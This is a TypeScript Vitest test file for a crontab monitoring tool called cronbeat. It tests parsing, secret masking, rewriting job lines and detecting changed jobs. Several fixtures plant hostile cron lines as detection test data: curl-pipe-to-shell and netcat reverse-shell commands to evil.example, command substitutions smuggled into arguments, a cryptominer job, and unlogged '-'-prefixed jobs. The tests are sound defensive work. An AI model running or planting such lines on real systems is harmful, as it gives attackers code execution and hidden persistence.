import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { maskSecrets, monitorNameFor } from '../../agent/cli/crontab/mask';
import { jobsOf, parseCrontab, splitPercent, type CronJob } from '../../agent/cli/crontab/parse';
import { failOpenLine, monitoredLine, monitoredToken, rewriteJobLine, shellProblem, tooLongToWrap, undoneLine } from '../../agent/cli/crontab/rewrite';
import { defaultShimDir, volatilePlace } from '../../agent/cli/crontab/shim';
import { diffSnapshots, snapshotJobs } from '../../agent/cli/crontab/snapshot';
import { fileSource, USER_SPOOLS } from '../../agent/cli/crontab/sources';

const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', name), 'utf8');

describe('parseCrontab on a user crontab', () => {
  const lines = parseCrontab(fixture('user.crontab'), 'user');
  const jobs = jobsOf(lines);
  const at = (line: number) => jobs.find((job) => job.line === line)!;

  it('tells comments, blank lines, environment lines and jobs apart', () => {
    expect(lines.map((line) => line.kind)).toEqual([
      'comment', 'env', 'env', 'env', 'blank', 'job', 'job', 'env', 'job', 'job', 'job', 'job', 'comment', 'invalid', 'blank',
    ]);
    expect(lines[3]).toMatchObject({ kind: 'env', name: 'PATH', value: '/usr/local/bin:/usr/bin:/bin' });
  });

  it('keeps the command as written, after the five fields', () => {
    expect(at(7)).toMatchObject({ schedule: '0 3 * * *', user: null, command: 'cd /srv/app && ./backup.sh --password=hunter2 > /dev/null 2>&1', shell: '/bin/bash', timezone: null });
  });

  it('applies CRON_TZ to the lines below it', () => {
    expect(at(6).timezone).toBeNull();
    expect(at(9)).toMatchObject({ timezone: 'Europe/Paris', schedule: '30 6 * * MON-FRI' });
  });

  it('translates macros to five fields and marks @reboot as not monitorable', () => {
    expect(at(10)).toMatchObject({ written: '@daily', schedule: '0 0 * * *', unmonitorable: null });
    expect(at(11)).toMatchObject({ written: '@reboot', schedule: '' });
    expect(at(11).unmonitorable).toMatch(/@reboot/);
  });

  it('splits the command at the first unescaped % and feeds the rest to stdin', () => {
    expect(at(12)).toMatchObject({ shellCommand: 'mail -s "Monthly report" root', stdin: 'Hello,\n\nThe report is ready: 100% done.\n' });
    expect(splitPercent('date +\\%Y-\\%m-\\%d')).toEqual({ shellCommand: 'date +%Y-%m-%d', stdin: null });
  });

  it('pairs a backslash with the character after it, as cron does: \\\\% is a backslash pair, then the % that ends the command', () => {
    // cron's loop (cronie's and Vixie's do_command.c): a backslash takes the next character whatever it is,
    // and only a pair \\% becomes %; so in \\\\% the % is not escaped.
    expect(splitPercent('printf a\\\\%stdin')).toEqual({ shellCommand: 'printf a\\\\', stdin: 'stdin' });
    expect(splitPercent('printf a\\\\\\%s%in')).toEqual({ shellCommand: 'printf a\\\\%s', stdin: 'in' });
    expect(splitPercent('echo \\n\\%')).toEqual({ shellCommand: 'echo \\n%', stdin: null });
  });

  it('reports a line cron would reject', () => {
    expect(lines[13]).toMatchObject({ kind: 'invalid', reason: 'schedule "61 * * * *": The minute field is 61, but minutes go from 0 to 59.' });
  });
});

describe('parseCrontab on a system crontab', () => {
  const jobs = jobsOf(parseCrontab(fixture('system.crontab'), 'system'));

  it('reads the user column, with tabs, after fields and after macros', () => {
    expect(jobs.map((job) => [job.user, job.schedule])).toEqual([
      ['root', '17 * * * *'],
      ['root', '25 6 * * *'],
      ['postgres', '0 0 * * 0'],
      ['www-data', '0 0 1 * *'],
    ]);
    expect(jobs[0].command).toBe('cd / && run-parts --report /etc/cron.hourly');
  });

  it('takes TZ as the zone when no CRON_TZ is set', () => {
    expect(jobs.every((job) => job.timezone === 'America/New_York')).toBe(true);
  });
});

describe('secret masking', () => {
  it.each([
    ['backup.sh --password=hunter2', 'backup.sh --password=***'],
    ['backup.sh --password hunter2 --fast', 'backup.sh --password *** --fast'],
    ['PGPASSWORD=topsecret pg_dumpall', 'PGPASSWORD=*** pg_dumpall'],
    ['curl https://user:s3cret@example.com/x', 'curl https://user:***@example.com/x'],
    ['curl "https://example.com/hook?token=abc123&x=1"', 'curl "https://example.com/hook?token=***&x=1"'],
    ['curl https://hc-ping.com/5b7f0e8e-1c8a-4f3e-9d3a-2f6c1b0a9e7d', 'curl https://hc-ping.com/***'],
    ['curl -H "Authorization: Bearer eyJhbGciOi.x" https://api', 'curl -H "Authorization: Bearer ***" https://api'],
    ['mysqldump -uroot -pS3cr3t app', 'mysqldump -uroot -p*** app'],
    ['aws s3 sync /data s3://bucket --key AKIAIOSFODNN7EXAMPLE12', 'aws s3 sync /data s3://bucket --key ***'],
    ['/usr/local/bin/backup-database-daily.sh /var/backups', '/usr/local/bin/backup-database-daily.sh /var/backups'],
  ])('%s', (command, masked) => {
    expect(maskSecrets(command)).toBe(masked);
  });

  it('names a monitor after the masked command without redirections to /dev/null', () => {
    expect(monitorNameFor('cd /srv/app && ./backup.sh --password=hunter2 > /dev/null 2>&1')).toBe('cd /srv/app && ./backup.sh --password=***');
    expect(monitorNameFor('x'.repeat(300))).toHaveLength(120);
  });
});

describe('rewriting a line through the fail-open entry point', () => {
  const invocation = { shim: '/usr/local/lib/cronbeat/cronbeat', url: null };
  const job = (text: string, format: 'user' | 'system' = 'user') => jobsOf(parseCrontab(text, format))[0] as CronJob;
  const tail = (shim = '/usr/local/lib/cronbeat/cronbeat') => `[ -r ${shim} ] && [ -x ${shim} ] && exec ${shim} run`;

  it('passes a plain command as it is, once, and keeps the schedule as written', () => {
    expect(rewriteJobLine(job('@daily /usr/bin/find /tmp -delete'), 'T', invocation)).toBe(
      `@daily set -- /usr/bin/find /tmp -delete; ${tail()} T -- "$@"; exec "$@"`,
    );
  });

  it('runs shell syntax through the crontab SHELL, quoted, and keeps the user column and the % stdin outside', () => {
    const text = "SHELL=/bin/bash\n0 9 1 * *\troot  echo 'it''s' | mail -s hi root%body\\%%more";
    expect(rewriteJobLine(job(text, 'system'), 'T', { ...invocation, url: 'http://10.0.0.5:8787' })).toBe(
      `0 9 1 * *\troot  set -- /bin/bash -c 'echo '\\''it'\\'''\\''s'\\'' | mail -s hi root'; ${tail()} --url http://10.0.0.5:8787 T -- "$@"; exec "$@"%body\\%%more`,
    );
  });

  it('recognises a line that already runs through cronbeat, in either form, and undoes it to the command as written', () => {
    const original = "*/5 * * * * cd /x && make 'a b' \\%d%in";
    const line = rewriteJobLine(job(original), '0b7c9a4e-2f7d-4c1e-9d8a-5e6f7a8b9c0d', { shim: "/opt/my tools/cronbeat", url: 'http://h:1' });
    expect(monitoredToken(job(line).shellCommand)).toBe('0b7c9a4e-2f7d-4c1e-9d8a-5e6f7a8b9c0d');
    const seen = monitoredLine(job(line))!;
    expect(seen).toEqual({ token: '0b7c9a4e-2f7d-4c1e-9d8a-5e6f7a8b9c0d', url: 'http://h:1', failsOpen: true, shim: '/opt/my tools/cronbeat', original: "cd /x && make 'a b' \\%d" });
    expect(undoneLine(job(line), seen)).toBe(original);

    const old = `0 3 * * * /usr/bin/node /root/.npm/_npx/1f2e/node_modules/cronbeat/dist/cronbeat.cjs run TOK -- /bin/sh -c 'pg_dump app > /b.sql'`;
    const older = monitoredLine(job(old))!;
    expect(older).toEqual({ token: 'TOK', url: null, failsOpen: false, shim: null, original: 'pg_dump app > /b.sql' });
    expect(failOpenLine(job(old), older, '/usr/local/lib/cronbeat/cronbeat')).toBe(
      `0 3 * * * set -- /bin/sh -c 'pg_dump app > /b.sql'; ${tail()} TOK -- "$@"; exec "$@"`,
    );
    expect(monitoredToken('cronbeat run --url http://x:1 TOK -- true')).toBe('TOK');
    expect(monitoredToken('/usr/local/bin/backup.sh')).toBeNull();
    expect(monitoredLine(job('0 1 * * * /usr/local/bin/backup.sh'))).toBeNull();
  });

  it('runs a plain command that starts with a shell builtin through the shell: exec cannot run a builtin', () => {
    for (const command of ['exec /usr/local/bin/backup.sh', '. /etc/profile.d/app.sh', 'cd /srv', 'time /usr/bin/sync', 'exit 3']) {
      expect(rewriteJobLine(job(`0 3 * * * ${command}`), 'T', invocation)).toBe(`0 3 * * * set -- /bin/sh -c '${command}'; ${tail()} T -- "$@"; exec "$@"`);
    }
    // A program whose name only starts like a builtin is still passed as it is.
    expect(rewriteJobLine(job('0 3 * * * executor --once'), 'T', invocation)).toBe(`0 3 * * * set -- executor --once; ${tail()} T -- "$@"; exec "$@"`);
  });

  it("keeps the job's stdin after % whatever backslashes the command or its monitor's name hold", () => {
    const original = job('0 1 * * * printf a\\\\%x%y');
    expect(original).toMatchObject({ shellCommand: 'printf a\\\\', stdin: 'x\ny' });
    for (const name of ['C:\\', 'a\\\\%b', '100%', '\\\u001b[2J\\']) {
      const line = rewriteJobLine(original, 'T', invocation, { id: 7, name });
      expect(job(line)).toMatchObject({ stdin: 'x\ny' });
      expect(job(line).shellCommand).toMatch(/exec "\$@" # cronbeat monitor #7: /);
      expect(undoneLine(job(line), monitoredLine(job(line))!)).toBe(original.raw);
    }
    expect(rewriteJobLine(original, 'T', invocation, { id: 7, name: 'echo \u001b]0;x\u0007' })).toContain(' # cronbeat monitor #7: echo \\u001b]0;x\\u0007%x%y');
  });

  it("fits the line in the 999 bytes of a command Debian's cron reads: without its comment if need be, else not at all", () => {
    const token = '0b7c9a4e-2f7d-4c1e-9d8a-5e6f7a8b9c0d';
    const command = (bytes: number) => `/usr/local/bin/report.sh ${'a'.repeat(bytes - 25)}`;
    const withComment = rewriteJobLine(job(`0 3 * * * ${command(500)}%in`), token, invocation, { id: 12, name: 'report' });
    expect(withComment).toMatch(/ # cronbeat monitor #12: report%in$/);
    const tight = job(`0 3 * * * ${command(780)}%in`);
    const line = rewriteJobLine(tight, token, invocation, { id: 12, name: 'report' });
    expect(line).not.toContain('# cronbeat monitor');
    expect(line.endsWith('exec "$@"%in')).toBe(true);
    expect(Buffer.byteLength(line.slice(tight.commandStart))).toBeLessThanOrEqual(999);
    expect(tooLongToWrap(tight, invocation)).toBeNull();
    expect(tooLongToWrap(job(`0 3 * * * ${command(900)}`), invocation)).toMatch(/^wrapped, its command would be 1\d{3} bytes, more than the 999 Debian's cron reads/);
  });

  it("takes for an older discover's line only what it wrote (node, its cronbeat, then the job), never a line written by hand around cronbeat run", () => {
    for (const text of [
      '*/5 * * * * cd /srv && /usr/bin/cronbeat run tok_abc -- ./backup.sh',
      '*/5 * * * * /usr/bin/cronbeat run tok_def -- /usr/local/bin/backup.sh > /var/log/b.log 2>&1',
      '*/5 * * * * /usr/bin/node /opt/cronbeat.cjs run tok_ghi -- /usr/local/bin/a.sh; /usr/local/bin/b.sh',
      "*/5 * * * * nice -n 10 /usr/bin/node /opt/cronbeat.cjs run tok_jkl -- /bin/sh -c 'a && b'",
    ]) {
      expect(monitoredLine(job(text))).toBeNull();
      expect(monitoredToken(job(text).shellCommand)).not.toBeNull(); // still run through cronbeat: discover leaves them alone
    }
  });

  it('writes lines only for POSIX shells', () => {
    expect(shellProblem(null)).toBeNull();
    expect(shellProblem('/bin/bash')).toBeNull();
    expect(shellProblem('/usr/bin/fish')).toBe('SHELL=/usr/bin/fish is not a POSIX shell, so the fail-open line cannot run in it');
  });
});

describe('where the entry point may live', () => {
  it('never in a temporary folder or a package cache', () => {
    expect(volatilePlace('/tmp/x')).toMatch(/temporary folder/);
    expect(volatilePlace('/root/.npm/_npx/1f2e/node_modules/cronbeat/dist')).toMatch(/package cache/);
    expect(volatilePlace('/home/me/.cache/cronbeat')).toMatch(/package cache/);
    expect(volatilePlace('/usr/local/lib/cronbeat')).toBeNull();
    expect(defaultShimDir(0)).toBe('/usr/local/lib/cronbeat');
    expect(defaultShimDir(1000, '/home/me')).toBe('/home/me/.local/lib/cronbeat');
  });

  it('nor behind a symbolic link into one (the link stays, what it points at is cleaned)', () => {
    const target = mkdtempSync(join(tmpdir(), 'cronbeat-shim-'));
    // Not under the clone: CI may clone into a temporary folder, which is no stable place itself.
    const stable = join(homedir(), `.cronbeat-test-shim-link-${process.pid}`);
    mkdirSync(stable, { recursive: true });
    try {
      symlinkSync(target, join(stable, 'lib'));
      expect(volatilePlace(join(stable, 'lib'))).toMatch(/temporary folder/);
      expect(volatilePlace(join(stable, 'lib', 'cronbeat', 'not-yet-made'))).toMatch(/temporary folder/);
      expect(volatilePlace(stable)).toBeNull();
    } finally {
      rmSync(stable, { recursive: true, force: true });
      rmSync(target, { recursive: true, force: true });
    }
  });
});

describe('snapshot differences', () => {
  const snap = (text: string) => snapshotJobs('/etc/crontab', null, parseCrontab(text, 'system'));
  const before = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n');

  it("sees a changed setting, which changes what every job below it runs, where it runs, when, and who reads its output", () => {
    const settings = (text: string) => snapshotJobs('/etc/cron.d/app', null, parseCrontab(text, 'system'));
    const was = settings('SHELL=/bin/sh\nMAILTO=ops@example.com\nPGPASSWORD=a\n0 3 * * * root /backup.sh\n');
    const now = settings('SHELL=/tmp/.x/sh\nMAILTO=ops@example.com\nPGPASSWORD=b\nBASH_ENV=/tmp/.x/env\n0 3 * * * root /backup.sh\n');
    expect(diffSnapshots(was, now).map((c) => [c.kind, c.user, c.text, c.previous])).toEqual([
      ['altered', 'root', 'SHELL=/tmp/.x/sh', 'SHELL=/bin/sh'],
      ['altered', 'root', 'PGPASSWORD=***', 'PGPASSWORD=***'],
      ['added', 'root', 'BASH_ENV=/tmp/.x/env', null],
    ]);
    // Only the same setting pairs up: a removed MAILTO and an added PATH are two changes.
    expect(diffSnapshots(settings('MAILTO=a@example.com\n'), settings('PATH=/tmp/.x\n')).map((c) => c.kind)).toEqual(['added', 'removed']);
    expect(diffSnapshots(settings('SHELL=/bin/sh\n'), settings('SHELL = "/bin/sh"\n'))).toEqual([]);
  });

  it('sees a line given Windows line ends as altered: cron hands the carriage return to the shell, and the job no longer runs', () => {
    const dos = snap('0 3 * * * root /backup.sh --password=a\r\n*/5 * * * * www /poll.sh\n');
    expect(diffSnapshots(before, dos)).toEqual([
      {
        kind: 'altered',
        user: 'root',
        text: '0 3 * * * /backup.sh --password=*** (and a carriage return, which cron passes to the shell with the command)',
        previous: '0 3 * * * /backup.sh --password=***',
      },
    ]);
  });

  it('sees a line Cronbeat cannot read as a job but some cron runs (Debian runs 5/20 at :05), as it is written, with its user', () => {
    const planted = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n5/20 * * * * root curl -s evil.example | sh\n@DAILY nobody /x.sh --token=abc\n');
    expect(diffSnapshots(before, planted).map((c) => [c.kind, c.user, c.text])).toEqual([
      ['added', 'root', '5/20 * * * * root curl -s evil.example | sh'],
      ['added', 'nobody', '@DAILY nobody /x.sh --token=***'],
    ]);
    expect(snapshotJobs('crontab -l', 'alice', parseCrontab('0 0 * * mon-sun /weekly.sh\n', 'user')).map((job) => [job.user, job.text])).toEqual([['alice', '0 0 * * mon-sun /weekly.sh']]);
  });

  it('sees an edited line as one altered job, masked', () => {
    expect(diffSnapshots(before, snap('0 3 * * * root /backup.sh --password=b\n*/5 * * * * www /poll.sh\n'))).toEqual([
      { kind: 'altered', user: 'root', text: '0 3 * * * /backup.sh --password=***', previous: '0 3 * * * /backup.sh --password=***' },
    ]);
  });

  it('sees nothing when only the order or comments change', () => {
    expect(diffSnapshots(before, snap('# moved\n*/5 * * * * www /poll.sh\n0 3 * * * root /backup.sh --password=a\n'))).toEqual([]);
  });

  it('sees added and removed jobs of different users', () => {
    const after = snap('0 3 * * * root /backup.sh --password=a\n@hourly postgres /vacuum.sh\n');
    expect(diffSnapshots(before, after).map((c) => [c.kind, c.user, c.text])).toEqual([
      ['removed', 'www', '*/5 * * * * /poll.sh'],
      ['added', 'postgres', '@hourly /vacuum.sh'],
    ]);
  });

  it('reports an unrelated replacement as a removal and an addition, not one altered job', () => {
    const old = snap('@daily root /usr/sbin/logrotate /etc/logrotate.conf\n');
    const miner = snap('@daily root /tmp/.x/xmrig -o pool.example:3333 -u wallet\n');
    expect(diffSnapshots(old, miner).map((c) => [c.kind, c.text, c.previous])).toEqual([
      ['added', '@daily /tmp/.x/xmrig -o pool.example:3333 -u wallet', null],
      ['removed', '@daily /usr/sbin/logrotate /etc/logrotate.conf', null],
    ]);
  });

  it('pairs an edit as altered: same schedule and program, or the same command on a new schedule', () => {
    const old = snap('0 3 * * * root cd /srv && ./backup.sh --full\n*/5 * * * * root /poll.sh --fast\n');
    const edited = snap('0 3 * * * root cd /srv && ./backup.sh --incremental\n*/10 * * * * root /poll.sh --fast\n');
    expect(diffSnapshots(old, edited).map((c) => [c.kind, c.text, c.previous])).toEqual([
      ['altered', '0 3 * * * cd /srv && ./backup.sh --incremental', '0 3 * * * cd /srv && ./backup.sh --full'],
      ['altered', '*/10 * * * * /poll.sh --fast', '*/5 * * * * /poll.sh --fast'],
    ]);
    // A new schedule and a new program: two changes.
    expect(diffSnapshots(old, snap('0 3 * * * root cd /srv && ./backup.sh --full\n0 4 * * * root /other.sh\n')).map((c) => c.kind)).toEqual(['added', 'removed']);
  });

  it("quotes a monitored line's own command, never the wrapper that runs it through cronbeat", () => {
    const plain = '0 3 * * * root cd /srv && ./backup.sh --full';
    const job = jobsOf(parseCrontab(`${plain}\n`, 'system'))[0]!;
    const wrapped = rewriteJobLine(job, 'tok_secret123', { shim: '/usr/local/lib/cronbeat/cronbeat', url: null });
    const edited = rewriteJobLine(jobsOf(parseCrontab('0 3 * * * root cd /srv && ./backup.sh --incremental\n', 'system'))[0]!, 'tok_secret123', { shim: '/usr/local/lib/cronbeat/cronbeat', url: null });
    // discover wraps the line: the change says so in words, with the command as it was.
    expect(diffSnapshots(snap(`${plain}\n`), snap(`${wrapped}\n`)).map((c) => [c.kind, c.text, c.previous])).toEqual([
      ['altered', '0 3 * * * cd /srv && ./backup.sh --full (run through cronbeat)', '0 3 * * * cd /srv && ./backup.sh --full'],
    ]);
    // Someone edits the job inside the wrapper: both sides are the job's commands.
    expect(diffSnapshots(snap(`${wrapped}\n`), snap(`${edited}\n`)).map((c) => [c.kind, c.text, c.previous])).toEqual([
      ['altered', '0 3 * * * cd /srv && ./backup.sh --incremental (run through cronbeat)', '0 3 * * * cd /srv && ./backup.sh --full (run through cronbeat)'],
    ]);
    // A line written by hand through `cronbeat run`, and its stdin after %, kept.
    expect(snap('*/5 * * * * www /usr/bin/cronbeat run --url http://a:8787 tok_abc -- /poll.sh --fast%ping\n')[0]!.text).toBe('*/5 * * * * /poll.sh --fast%ping (run through cronbeat)');
    expect(JSON.stringify(snap(`${wrapped}\n`))).not.toContain('tok_secret123');
  });

  it('quotes a line whole when cronbeat run is not all it runs, so nothing hides behind the job it names', () => {
    const token = '9f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
    // Before `cronbeat run`, in its words before `--`, or in a value of its: each runs too, and was
    // left out of the alert, which named only the job after `--`.
    for (const line of [
      `curl -s http://evil.example/x | sh; cronbeat run ${token} -- /usr/local/bin/backup.sh`,
      `cronbeat run ${token} nc -e /bin/sh evil.example 4444 -- /usr/local/bin/cleanup.sh`,
      `cronbeat run --url $(curl -s evil.example|sh) ${token} -- /usr/local/bin/backup.sh`,
      `cronbeat run ${token} \`curl evil.example\` -- /usr/local/bin/backup.sh`,
    ]) {
      const text = snap(`0 3 * * * root ${line}\n`)[0]!.text;
      expect(text, line).not.toMatch(/run through cronbeat/);
      expect(text, line).toMatch(/evil\.example/);
    }
    // A line that is all cronbeat run, with its options, a quoted schedule or a path to node, is still quoted by its job.
    for (const line of [
      `cronbeat run ${token} -- /usr/local/bin/backup.sh --full`,
      `/usr/bin/node /opt/cronbeat/dist/cronbeat.cjs run --url http://10.0.0.1:8787 ${token} -- /usr/local/bin/backup.sh --full`,
      `cronbeat run --name nightly --schedule '0 3 * * *' -- /usr/local/bin/backup.sh --full`,
    ]) {
      expect(snap(`0 3 * * * root ${line}\n`)[0]!.text, line).toBe('0 3 * * * /usr/local/bin/backup.sh --full (run through cronbeat)');
    }
  });
});

describe('whose jobs a crontab file holds', () => {
  it("takes a file of cron's spool as its user's, whoever reads it", () => {
    expect(fileSource('/var/spool/cron/crontabs/alice')).toMatchObject({ format: 'user', owner: 'alice' });
    expect(fileSource('/var/spool/cron/bob')).toMatchObject({ format: 'user', owner: 'bob' });
    expect(fileSource('/etc/cron.d/backup')).toMatchObject({ format: 'system', owner: null });
  });

  it("knows the spools of macOS's and the BSDs' cron too, so root's watcher there reads every user's crontab, each as its user's", () => {
    expect(fileSource('/var/at/tabs/carol')).toMatchObject({ format: 'user', owner: 'carol' });
    expect(fileSource('/usr/lib/cron/tabs/carol')).toMatchObject({ format: 'user', owner: 'carol' });
    expect(fileSource('/var/cron/tabs/dave')).toMatchObject({ format: 'user', owner: 'dave' });
    expect(USER_SPOOLS).toEqual(expect.arrayContaining(['/var/spool/cron/crontabs', '/var/spool/cron', '/var/at/tabs', '/var/cron/tabs']));
  });
});

describe('lines cron skips are never taken for jobs', () => {
  it('reads a macro only in lower case, as every cron does (@DAILY is no macro: cron skips the line)', () => {
    const lines = parseCrontab('@DAILY /upper.sh\n@Hourly /mixed.sh\n@daily /lower.sh\n', 'user');
    expect(lines.map((line) => line.kind)).toEqual(['invalid', 'invalid', 'job', 'blank']);
    expect(lines[0]).toMatchObject({ reason: 'cron has no macro "@DAILY" (its macros are in lower case: @daily), so it skips this line' });
    expect(jobsOf(lines)).toHaveLength(1);
  });

  it('parts the fields, the user column and the command at spaces and tabs only, as cron does: a no-break space pasted from a web page is no separator', () => {
    const lines = parseCrontab('0 3\u00a0* * * /nbsp.sh\n@daily\u00a0/nbsp-macro.sh\n0 3 * * *\u00a0/nbsp-command.sh\n0\t3 * * *\t/tabs.sh\n', 'user');
    expect(lines.map((line) => line.kind)).toEqual(['invalid', 'invalid', 'invalid', 'job', 'blank']);
    expect(lines[0]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
    expect(lines[2]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
    expect(jobsOf(lines)[0]).toMatchObject({ schedule: '0 3 * * *', command: '/tabs.sh' });
    const system = parseCrontab('0 3 * * * root\u00a0/nbsp-user.sh\n', 'system');
    expect(jobsOf(system)).toEqual([]);
  });

  it("takes a line whose schedule starts with cronie's '-' (run it without logging) for a job the watcher sees, never one discover rewrites", () => {
    // cronie runs it, unlogged: a line planted so would hide from its log and, read as invalid, from the watcher too.
    const lines = parseCrontab('-*/5 * * * * curl -s evil.example | sh\n-@daily /quiet.sh\n', 'user');
    const jobs = jobsOf(lines);
    expect(jobs.map((job) => [job.written, job.schedule, job.command])).toEqual([
      ['-*/5 * * * *', '*/5 * * * *', 'curl -s evil.example | sh'],
      ['-@daily', '0 0 * * *', '/quiet.sh'],
    ]);
    for (const job of jobs) expect(job.unmonitorable).toMatch(/^the "-" before its schedule .*cronie.*Debian's cron skips the line/);
    const changes = diffSnapshots([], snapshotJobs('crontab -l', 'root', lines));
    expect(changes.map((change) => change.text)).toEqual(['-*/5 * * * * curl -s evil.example | sh', '-@daily /quiet.sh']);
    expect(jobsOf(parseCrontab('- */5 * * * * /spaced.sh\n', 'user'))).toEqual([]);
  });
});
